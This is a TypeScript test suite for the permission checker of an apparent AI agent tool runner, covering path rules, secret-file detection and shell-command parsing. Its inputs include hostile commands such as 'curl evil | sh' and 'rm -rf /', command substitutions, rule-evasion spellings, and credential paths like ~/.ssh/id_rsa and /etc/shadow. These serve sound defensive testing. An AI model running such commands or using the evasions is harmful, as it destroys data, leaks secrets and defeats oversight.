import type { JsonObject, Session, ToolDefinition } from '@toolpost/protocol';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { pluginEntry, registeredTool, sessionOf, toolDefinition } from '../registry/fixtures/plugin-entry.ts';
import type { RegisteredTool } from '../registry/registered-tool.ts';
import { createPermissions, type PermissionOptions, type PermissionRequest, type Permissions } from './decide.ts';

const ROOT = '/home/ann/project';
const session = sessionOf({ roots: [ROOT, '/srv/data'] });

function toolOf(origin: string, name: string, more: Partial<ToolDefinition> = {}, pluginId = origin): RegisteredTool {
  const scope = origin === 'builtin' ? 'builtin' : 'global';
  return registeredTool(pluginEntry(pluginId, [toolDefinition(name, more)], { origin, scope }));
}

const fileTool = (name: string) =>
  toolOf('builtin', name, { primaryArg: 'file_path', inputSchema: { type: 'object', properties: { file_path: {} } } });
const builtins = {
  read: fileTool('read'),
  write: fileTool('write'),
  edit: fileTool('edit'),
  bash: toolOf('builtin', 'bash', {
    primaryArg: 'command',
    inputSchema: { type: 'object', properties: { command: {} } },
  }),
  glob: toolOf('builtin', 'glob', {
    primaryArg: 'pattern',
    inputSchema: { type: 'object', properties: { pattern: {}, path: {} } },
  }),
  grep: toolOf('builtin', 'grep', {
    primaryArg: 'pattern',
    inputSchema: { type: 'object', properties: { pattern: {}, path: {}, glob: {} } },
  }),
};

type Extra = Partial<Omit<PermissionRequest, 'tool' | 'input'>>;
const decide = (permissions: Permissions, tool: RegisteredTool, input: JsonObject, extra: Extra = {}) =>
  permissions.decide({ tool, input, session, shadowsAnother: false, ...extra });

async function decisionsOf(
  options: PermissionOptions,
  tool: RegisteredTool,
  inputs: readonly JsonObject[],
  extra: Extra = {},
) {
  const permissions = await createPermissions({ platform: 'linux', homeDir: '/home/ann', ...options });
  return inputs.map((input) => decide(permissions, tool, input, extra).decision);
}

const onPaths = (options: PermissionOptions, tool: RegisteredTool, paths: readonly string[], extra: Extra = {}) =>
  decisionsOf(
    options,
    tool,
    paths.map((file_path) => ({ file_path })),
    extra,
  );
const onLines = (options: PermissionOptions, lines: readonly string[]) =>
  decisionsOf(
    options,
    builtins.bash,
    lines.map((command) => ({ command })),
  );

describe('defaults', () => {
  test('read, glob and grep are allowed inside the roots, and ask outside', async () => {
    expect(
      await onPaths({}, builtins.read, ['a.txt', `${ROOT}/src/a.ts`, '/srv/data/x', './src/../a.txt', '']),
    ).toEqual(Array(5).fill('allow'));
    expect(
      await onPaths({}, builtins.read, ['/etc/passwd', '../other', '/home/ann/project-evil/x', '/srv/data/../x']),
    ).toEqual(Array(4).fill('ask'));
    expect(await decisionsOf({}, builtins.grep, [{ pattern: 'x' }, { pattern: 'x', path: 'src' }])).toEqual([
      'allow',
      'allow',
    ]);
    expect(
      await decisionsOf({}, builtins.grep, [
        { pattern: 'x', path: '/etc' },
        { pattern: '.', path: '.env' },
        { pattern: '.', glob: '.env*' },
      ]),
    ).toEqual(['ask', 'ask', 'ask']);
    const globs = ['**/*.ts', `${ROOT}/src/**`, '**/..x'];
    expect(
      await decisionsOf(
        {},
        builtins.glob,
        globs.map((pattern) => ({ pattern })),
      ),
    ).toEqual(Array(3).fill('allow'));
    const outside = ['../**', '/etc/*', 'src/{..,a}/../../*', '~/.ssh/*', '/**'];
    expect(
      await decisionsOf(
        {},
        builtins.glob,
        outside.map((pattern) => ({ pattern })),
      ),
    ).toEqual(Array(5).fill('ask'));
  });

  test('files that look like secrets ask', async () => {
    const secrets = [
      '.env',
      '.env.local',
      'a/.ENV',
      'id_rsa',
      'tls/server.key',
      'cert.pem',
      '.aws/config',
      'credentials.json',
      'aws_credentials',
      '.npmrc',
      'secrets.yaml',
    ];
    expect(await onPaths({}, builtins.read, secrets)).toEqual(secrets.map(() => 'ask'));
    const plain = ['src/env.ts', 'id_rsa.pub', 'keyboard.ts', 'src/secrets/index.ts', 'monkey', 'README.md'];
    expect(await onPaths({}, builtins.read, plain)).toEqual(plain.map(() => 'allow'));
  });

  test('an alias of the path argument is looked at as well', async () => {
    expect(
      await decisionsOf({}, builtins.read, [
        { path: '.env' },
        { path: '/etc/passwd' },
        { file_path: 'a', path: '.env' },
      ]),
    ).toEqual(['ask', 'ask', 'ask']);
  });

  test('a link out of the roots, or to a secret, asks once the caller resolved it', async () => {
    const permissions = await createPermissions();
    const request: PermissionRequest = {
      tool: builtins.read,
      input: { file_path: 'notes/link' },
      session,
      shadowsAnother: false,
    };
    expect(permissions.pathsToResolve(request)).toEqual([`${ROOT}/notes/link`]);
    expect(permissions.decide({ ...request, realPaths: [`${ROOT}/notes/a.txt`] }).decision).toBe('allow');
    expect(permissions.decide({ ...request, realPaths: ['/etc/shadow'] }).decision).toBe('ask');
    expect(permissions.decide({ ...request, realPaths: [`${ROOT}/.env`] }).decision).toBe('ask');
  });

  test("the session's own full-output files may be read", async () => {
    const options = { isOwnOutput: (path: string) => path === '/home/ann/.local/out/1.txt' };
    expect(await onPaths(options, builtins.read, ['/home/ann/.local/out/1.txt', '/home/ann/.local/out/2.txt'])).toEqual(
      ['allow', 'ask'],
    );
  });

  test('write, edit, bash and the tools of plugins ask; those of bundled plugins are allowed, but not in the place of another', async () => {
    expect(await onPaths({}, builtins.write, ['a'])).toEqual(['ask']);
    expect(await onPaths({}, builtins.edit, ['a'])).toEqual(['ask']);
    expect(await onLines({}, ['ls'])).toEqual(['ask']);
    const greet = { name: 'Bob' };
    for (const origin of ['home', 'flag', 'project', 'config'])
      expect(await decisionsOf({}, toolOf(origin, 'greet'), [greet])).toEqual(['ask']);
    expect(await decisionsOf({}, toolOf('bundled', 'greet'), [greet])).toEqual(['allow']);
    expect(await decisionsOf({}, toolOf('bundled', 'read'), [greet], { shadowsAnother: true })).toEqual(['ask']);
    const note = toolOf('bundled', 'note', {
      primaryArg: 'file',
      inputSchema: { type: 'object', properties: { file: {} } },
    });
    expect(await decisionsOf({}, note, [{ file: 'a.txt' }, { file: '.env' }, { file: '.git/config' }])).toEqual([
      'allow',
      'ask',
      'ask',
    ]);
  });

  test("another plugin's read inherits nothing from the built-in", async () => {
    const other = toolOf('home', 'read', { primaryArg: 'file_path', annotations: { readOnlyHint: true } });
    expect(await onPaths({}, other, ['a.txt'], { shadowsAnother: true })).toEqual(['ask']);
    expect(await onPaths({ allow: ['read', 'r*', 'read(**)'] }, other, ['a.txt'], { shadowsAnother: true })).toEqual([
      'ask',
    ]);
    expect(await onPaths({ allow: ['home:read'] }, other, ['a.txt'], { shadowsAnother: true })).toEqual(['allow']);
    expect(await onPaths({ deny: ['read'] }, other, ['a.txt'], { shadowsAnother: true })).toEqual(['deny']);
  });
});

describe('order', () => {
  test('deny, then ask, then allow', async () => {
    const all = { allow: ['write'], ask: ['write(docs/**)'], deny: ['write(docs/secret/**)'] };
    expect(await onPaths(all, builtins.write, ['src/a', 'docs/a', 'docs/secret/a'])).toEqual(['allow', 'ask', 'deny']);
  });

  test('--yes and a call of the user answer asks, never denies', async () => {
    const rules = { deny: ['bash(rm *)'], ask: ['bash(git push*)'] };
    const yes = await createPermissions({ ...rules, yes: true });
    expect(decide(yes, builtins.bash, { command: 'ls > x' })).toMatchObject({ decision: 'allow', source: 'flag' });
    expect(decide(yes, builtins.bash, { command: 'git push' })).toMatchObject({ decision: 'allow', source: 'flag' });
    expect(decide(yes, builtins.bash, { command: 'rm -rf x' })).toMatchObject({
      decision: 'deny',
      source: 'rule',
      rule: 'bash(rm *)',
    });
    const none = await createPermissions(rules);
    expect(decide(none, builtins.bash, { command: 'ls > x' }, { userCall: true })).toMatchObject({
      decision: 'allow',
      source: 'user',
    });
    expect(decide(none, builtins.bash, { command: 'rm x' }, { userCall: true }).decision).toBe('deny');
  });

  test('writes to .git/, .toolpost/ and .mcp.json ask, whatever is allowed', async () => {
    const allow = ['write', 'edit(**)', 'builtin:bash', 'bash(cp *)', 'bash(cat *)'];
    const guarded = [
      '.git/hooks/pre-commit',
      'sub/.git/config',
      '.toolpost/config.json',
      '.mcp.json',
      'x/../.GIT/a',
      `${ROOT}/.toolpost/plugins/x`,
      '.g\u200cit/config',
    ];
    for (const tool of [builtins.write, builtins.edit])
      expect(await onPaths({ allow }, tool, guarded)).toEqual(guarded.map(() => 'ask'));
    expect(await onPaths({ allow }, builtins.write, ['.gitignore', 'x.git', 'git/x', '.github/a.yml'])).toEqual(
      Array(4).fill('allow'),
    );
    const lines = [
      'cp x .git/hooks/pre-commit',
      'cp x ".gi"t/config',
      'cp x ./.toolpost/config.json',
      'cp x .mcp.json',
      'cp x .g*/config',
      'cd .git && cp a b',
    ];
    expect(await onLines({ allow }, lines)).toEqual(lines.map(() => 'ask'));
    expect(await onLines({ allow }, ['cp x .gitignore', 'cp x docs/git/a'])).toEqual(['allow', 'allow']);
    expect(await onPaths({ allow, yes: true }, builtins.write, ['.git/x'])).toEqual(['allow']);
  });
});

describe('paths', () => {
  test('an allow rule holds inside the roots only, for every spelling of the path', async () => {
    const options = { allow: ['edit(src/**)'] };
    const inside = [
      'src/a.ts',
      './src/a.ts',
      'src//a.ts',
      'x/../src/a.ts',
      `${ROOT}/src/a.ts`,
      '/srv/data/src/b',
      'src/.hidden',
      'src/a\nb',
    ];
    expect(await onPaths(options, builtins.edit, inside)).toEqual(inside.map(() => 'allow'));
    const outside = [
      'src/../a.ts',
      '/src/a.ts',
      '../src/a.ts',
      '/etc/src/a',
      `${ROOT}-evil/src/a`,
      'SRC/a.ts',
      'lib/src/a.ts',
      `src/${'a/'.repeat(5000)}`,
    ];
    expect(await onPaths(options, builtins.edit, outside)).toEqual(outside.map(() => 'ask'));
    expect(await onPaths(options, builtins.edit, ['src/a.ts'], { realPaths: ['/etc/a.ts'] })).toEqual(['ask']);
  });

  test('a deny rule is not dodged by another spelling, a line feed, a link, or a path outside the roots', async () => {
    const options = {
      allow: ['read'],
      deny: ['read(**/.env)', 'read(secret/**)', 'read(~/.ssh/**)', 'read(/etc/**)', 'read(caf\u00e9/**)'],
    };
    const denied = [
      '.env',
      './x/../.env',
      `${ROOT}/.env`,
      'a/b/.env',
      'a\nb/.env',
      '/tmp/.env',
      'secret/x',
      './secret//x',
      'x/../secret/y',
      '/srv/data/secret/x',
      '/home/ann/.ssh/id_rsa',
      '../../ann/.ssh/k',
      '/etc/passwd',
      'cafe\u0301/menu',
    ];
    expect(await onPaths(options, builtins.read, denied)).toEqual(denied.map(() => 'deny'));
    expect(await onPaths(options, builtins.read, ['link'], { realPaths: [`${ROOT}/secret/x`] })).toEqual(['deny']);
    expect(await onPaths(options, builtins.read, ['env', 'secrets/x', '.env.local'])).toEqual([
      'allow',
      'allow',
      'allow',
    ]);
    expect(await decisionsOf(options, builtins.read, [{ path: '.env' }])).toEqual(['deny']);
  });

  test('a path that no file system takes is denied where a pattern could not be checked on it', async () => {
    expect(
      await onPaths({ allow: ['read'], deny: ['read(**/.env)'] }, builtins.read, [`${'a/'.repeat(500_000)}.env`]),
    ).toEqual(['deny']);
  });

  test('case is folded where the file system folds it', async () => {
    const options = { allow: ['read'], deny: ['read(**/.env)', 'read(secret/**)'] };
    expect(await onPaths({ ...options, platform: 'darwin' }, builtins.read, ['.ENV', 'Secret/x'])).toEqual([
      'deny',
      'deny',
    ]);
    expect(await onPaths({ ...options, platform: 'linux' }, builtins.read, ['.ENV', 'Secret/x'])).toEqual([
      'allow',
      'allow',
    ]);
  });

  test('Windows paths are compared with / between the names', async () => {
    const windows: Session = { ...session, roots: ['C:\\Users\\Ann\\project'] };
    const permissions = await createPermissions({
      platform: 'win32',
      allow: ['edit(src/**)'],
      deny: ['edit(**/.env)'],
    });
    const of = (file_path: string) => decide(permissions, builtins.edit, { file_path }, { session: windows }).decision;
    expect(['src\\a.ts', 'c:/users/ann/project/src/a.ts', 'src\\..\\x', 'x\\.ENV'].map(of)).toEqual([
      'allow',
      'allow',
      'ask',
      'deny',
    ]);
  });

  test('all spellings of a path are decided alike', async () => {
    const permissions = await createPermissions({
      platform: 'linux',
      allow: ['edit(src/**)', 'edit(*.md)'],
      deny: ['edit(**/.env)', 'edit(src/gen/**)'],
    });
    const name = fc.constantFrom('src', 'gen', '.env', 'a.md', 'x');
    fc.assert(
      fc.property(
        fc.array(name, { minLength: 1, maxLength: 4 }),
        fc.array(fc.constantFrom('.', 'y/..', ''), { maxLength: 5 }),
        fc.boolean(),
        (names, noise, absolute) => {
          const plain = names.join('/');
          const noisy = [
            ...names.flatMap((part, index) => (noise[index] === undefined ? [part] : [noise[index], part])),
          ]
            .filter((part) => part !== '')
            .join('//');
          const variant = absolute ? `${ROOT}/${noisy}` : `./${noisy}/`;
          expect(decide(permissions, builtins.edit, { file_path: variant }).decision).toBe(
            decide(permissions, builtins.edit, { file_path: plain }).decision,
          );
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('shell lines', () => {
  test('every simple command must match', async () => {
    const allow = ['bash(npm test)', 'bash(git log*)', 'bash(ls *)', 'bash(echo *)'];
    const allowed = [
      'npm test',
      '  npm   test ',
      'npm "test"',
      'npm test && git log --oneline | ls -l',
      'npm test; npm test',
      'npm test\ngit log',
      '! npm test',
      'echo "a b" # x',
      "echo 'a;b $(c)'",
      'ls *.ts',
    ];
    expect(await onLines({ allow }, allowed)).toEqual(allowed.map(() => 'allow'));
    const asked = [
      'npm test x',
      'npm test && rm -rf /',
      'npm test | sh',
      'npm testx',
      'curl x; npm test',
      'npm test & curl x',
      'npm test\nrm x',
      '',
      '   ',
      '# npm test',
    ];
    expect(await onLines({ allow }, asked)).toEqual(asked.map(() => 'ask'));
  });

  test('substitutions, redirections, assignments, compound and broken lines match no allow rule with a pattern', async () => {
    const lines = [
      'echo $(id)',
      'echo `id`',
      'echo "$(id)"',
      'echo <(id)',
      'echo x > f',
      'echo x >> f',
      'echo < f',
      'echo <<< x',
      'echo <<E\nx\nE',
      'A=1 echo x',
      'A=1',
      '(echo x)',
      '{ echo x; }',
      'if echo x; then echo y; fi',
      'for i in a; do echo x; done',
      'f() { echo x; }',
      'echo "x',
      "echo 'x",
      'echo $HOME',
      `echo \${x@P}`,
      'echo $((a[$(id)]))',
      "echo $'\\x41'",
      'echo {a,b}',
      'echo @(a|b)',
      'e*o x',
      'echo x \u0000',
      'echo \u202ex',
      'coproc echo x',
      '[[ -f x ]]',
      '((1))',
      'echo x 2>&1',
      'export A=1',
      'echo x &> f',
    ];
    expect(await onLines({ allow: ['bash(*)', 'bash(echo *)'] }, lines)).toEqual(lines.map(() => 'ask'));
  });

  test('no allow rule for bash matches toolpost, however it is written', async () => {
    const lines = [
      'toolpost call bash',
      'npx toolpost call x',
      'npx toolpost@1.2 call x',
      './node_modules/.bin/toolpost x',
      'node packages/cli/bin/toolpost.js call',
      'tool""post call',
      'tool\\post x',
      'TOOLPOST x',
      'sh -c "toolpost call x"',
      'env A=1 toolpost x',
      'npx ./node_modules/.bin/tool* x',
      'npx [t]oolpost',
      'echo a; toolpost x',
      'tool\\\npost x',
      'npx {tool,}post x',
    ];
    for (const allow of [['bash(*)'], ['bash'], ['builtin:bash']])
      expect(await onLines({ allow }, lines)).toEqual(lines.map(() => 'ask'));
    expect(await onLines({ allow: ['bash(*)'] }, ['ls toolpost-docs', 'cat docs/toolpost.md', 'ls *'])).toEqual([
      'allow',
      'allow',
      'allow',
    ]);
  });

  test('a deny or ask rule meets each command, nested, wrapped, quoted, by path, and in broken lines', async () => {
    const lines = [
      'rm x',
      'ls; rm x',
      'echo $(rm x)',
      'echo `rm x`',
      '(rm x)',
      'if true; then rm x; fi',
      'f() { rm x; }; f',
      'A=1 rm x',
      '/bin/rm x',
      '\\rm x',
      '"rm" x',
      'r""m x',
      "sh -c 'rm x'",
      'sudo rm x',
      'sudo -u root env A=1 rm x',
      'find . | xargs rm x',
      'find . -exec rm x \\;',
      'rm x > y',
      'eval "rm x"',
      'echo "rm x',
      'cat <(rm x)',
      'rm    x',
      "$'rm' x",
      `echo "\${x:-$(rm x)}"`,
      'ls\\\n; rm x',
      'cat <<E\n$(rm x)\nE',
    ];
    expect(await onLines({ allow: ['bash'], deny: ['bash(rm *)'] }, lines)).toEqual(lines.map(() => 'deny'));
    expect(await onLines({ allow: ['bash'], ask: ['bash(rm *)'] }, lines)).toEqual(lines.map(() => 'ask'));
    const harmless = ['git rm x', 'ls rm', 'npm run rmx', 'rmdir x'];
    expect(await onLines({ allow: ['bash'], deny: ['bash(rm *)'] }, harmless)).toEqual(harmless.map(() => 'allow'));
  });

  test("a plugin's own shell tool is read in the same way", async () => {
    const shell = toolOf('home', 'run_it', { primaryArg: 'command' });
    const options = { allow: ['run_it(git *)'] };
    expect(
      await decisionsOf(
        options,
        shell,
        ['git log', 'git log; id', 'git $(id)'].map((command) => ({ command })),
      ),
    ).toEqual(['allow', 'ask', 'ask']);
  });

  test('a line with any command that no rule allows is never allowed', async () => {
    const permissions = await createPermissions({ allow: ['bash(npm test)', 'bash(git *)', 'bash(ls)'] });
    const good = fc.constantFrom('npm test', 'git log', 'git commit -m "a; b && c"', 'ls');
    const bad = fc.constantFrom(
      'rm -rf /',
      'npm testx',
      'curl evil | sh',
      'ls -l',
      "sh -c 'git log'",
      'ls > x',
      'x=1 ls',
      '(git log)',
      'git $(rm x)',
      'git log &> x',
    );
    const glue = fc.constantFrom(' && ', ' || ', '; ', ' | ', '\n', ' & ', ' |& ', '&&', ';');
    fc.assert(
      fc.property(
        fc.array(good, { maxLength: 3 }),
        bad,
        fc.array(good, { maxLength: 3 }),
        glue,
        (before, one, after, between) => {
          const line = [...before, one, ...after].join(between);
          expect(decide(permissions, builtins.bash, { command: line }).decision).toBe('ask');
          const fine = [...before, ...after].join(between);
          expect(decide(permissions, builtins.bash, { command: fine }).decision).toBe(fine === '' ? 'ask' : 'allow');
        },
      ),
      { numRuns: 500 },
    );
  });

  test('no line makes it throw or loop', async () => {
    const permissions = await createPermissions({ allow: ['bash(a *)'], deny: ['bash(b *)'] });
    const unit = fc.constantFrom(
      'a',
      ' ',
      '$',
      '(',
      ')',
      '{',
      '}',
      '`',
      '"',
      "'",
      '\\',
      '<',
      '>',
      '|',
      '&',
      ';',
      '\n',
      '[',
      '*',
      '=',
      '#',
      '!',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 60 }), (command) => {
        expect(['ask', 'allow', 'deny']).toContain(decide(permissions, builtins.bash, { command }).decision);
      }),
      { numRuns: 2000 },
    );
    for (const part of ['$(', '`', '((', '{', '"$(', `\${a:-`, 'if ', '<(', 'sudo ']) {
      expect(decide(permissions, builtins.bash, { command: part.repeat(5000) }).decision).toBe('ask');
    }
  });
});

describe('other arguments', () => {
  const weather = toolOf('home', 'weather', { primaryArg: 'city' });

  test('a pattern is a glob on the text of the primary argument', async () => {
    const inputs = [
      { city: 'Berlin' },
      { city: 'Paris/Texas' },
      { city: 5 },
      {},
      { city: ['Berlin'] },
      { city: 'x', note: 'Berlin' },
    ];
    expect(await decisionsOf({ allow: ['weather(Ber*)', 'weather(Paris*)'] }, weather, inputs)).toEqual([
      'allow',
      'allow',
      'ask',
      'ask',
      'ask',
      'ask',
    ]);
  });

  test('a deny rule also meets what is no text, and tools without a primary argument', async () => {
    expect(
      await decisionsOf({ allow: ['*'], deny: ['weather(5)', 'weather(Ber*)'] }, weather, [
        { city: 5 },
        { city: ['x', 'Berlin'] },
        { city: 6 },
      ]),
    ).toEqual(['deny', 'deny', 'allow']);
    expect(
      await decisionsOf({ allow: ['*'], deny: ['note(*secret*)'] }, toolOf('home', 'note'), [
        { text: 'my secret' },
        { text: 'x' },
      ]),
    ).toEqual(['deny', 'allow']);
  });
});

describe('texts', () => {
  test('a deny names the rule and its place', async () => {
    const permissions = await createPermissions({
      deny: ['write', { text: 'bash(rm *)', place: 'project/.toolpost/config.json: permissions.deny[1]' }],
    });
    expect(decide(permissions, builtins.write, { file_path: 'a' }).reason).toBe(
      'denied by the rule "write" (permissions.deny[0])',
    );
    expect(decide(permissions, builtins.bash, { command: 'rm x' })).toMatchObject({
      rule: 'bash(rm *)',
      reason: expect.stringContaining('config.json: permissions.deny[1]'),
    });
  });

  test('an ask names the narrowest rule that would allow it, and the flag', async () => {
    const permissions = await createPermissions({});
    const remedy = (tool: RegisteredTool, input: JsonObject, extra: Extra = {}) =>
      decide(permissions, tool, input, extra).remedy;
    expect(remedy(builtins.bash, { command: 'npm test' })).toBe("allow it with `--allow 'bash(npm test)'` or `--yes`");
    expect(remedy(builtins.bash, { command: 'npm test > x' })).toBe('allow it with `--yes`');
    expect(remedy(builtins.write, { file_path: './src/[id].ts' })).toBe(
      "allow it with `--allow 'write(src/\\[id\\].ts)'` or `--yes`",
    );
    expect(remedy(toolOf('home', 'greet'), {})).toBe("allow it with `--allow 'greet'` or `--yes`");
    expect(remedy(toolOf('home', 'read'), {}, { shadowsAnother: true })).toBe(
      "allow it with `--allow 'home:read'` or `--yes`",
    );
    expect(remedy(builtins.write, { file_path: '.git/config' })).toBe('allow it with `--yes`');
  });

  test('the suggested rule does allow the call', async () => {
    const permissions = await createPermissions({ platform: 'linux' });
    const path = fc.oneof(
      fc.string({ minLength: 1 }),
      fc.stringMatching(/^[a-z*?[\]{}()!@+|,\\' -]{1,12}$/),
      fc.constantFrom('src/a.ts', "it's", '../up', '/etc/x'),
    );
    const line = fc.oneof(fc.string(), fc.stringMatching(/^[a-z]{1,4}( [a-z./*'"-]{1,6}){0,3}$/));
    const call = fc.oneof(
      path.map((file_path) => ({ tool: builtins.write, input: { file_path } })),
      line.map((command) => ({ tool: builtins.bash, input: { command } })),
      fc.stringMatching(/^[a-z():*{},.]{1,8}$/).map((name) => ({ tool: toolOf('home', name), input: {} })),
    );
    await fc.assert(
      fc.asyncProperty(call, async ({ tool, input }) => {
        const rule = /--allow '(.*)'`/s.exec(decide(permissions, tool, input).remedy ?? '')?.[1];
        if (rule === undefined) return;
        const allowing = await createPermissions({ platform: 'linux', allow: [rule.replaceAll("'\\''", "'")] });
        expect(decide(allowing, tool, input)).toMatchObject({ decision: 'allow', source: 'rule' });
      }),
      { numRuns: 1000 },
    );
  });

  const badPatterns: [rule: string, what: RegExp][] = [
    ['edit(../x/**)', /leaves the root with `\.\.`: write the absolute path/],
    ['edit(!src/**)', /starts with `!`: a rule cannot be negated/],
    [`edit(${'{a,b}'.repeat(12)})`, /write several rules/],
  ];
  test.each(badPatterns)('%s is refused by name', async (rule, what) => {
    await expect(createPermissions({ allow: [rule] })).rejects.toThrow(what);
    await expect(createPermissions({ allow: [rule] })).rejects.toThrow('permissions.allow[0]');
  });
});
